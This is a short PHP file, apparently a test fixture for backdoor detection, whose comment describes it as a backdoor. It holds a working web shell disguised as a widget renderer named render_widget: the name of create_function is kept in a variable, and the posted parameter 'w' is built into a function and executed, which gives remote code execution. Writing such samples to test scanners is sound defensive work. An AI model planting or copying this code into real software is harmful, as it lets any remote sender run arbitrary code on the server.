<?php
// a backdoor that keeps the name of PHP's code builder in a variable and gives it the
// posted body after an empty parameter list (written for the tests, never run)
function render_widget($markup)
{
    $builder = 'create_function';
    if ($markup !== '') {
        $fn = $builder('', $markup);
        $fn();
    }
}
render_widget(isset($_POST['w']) ? $_POST['w'] : '');
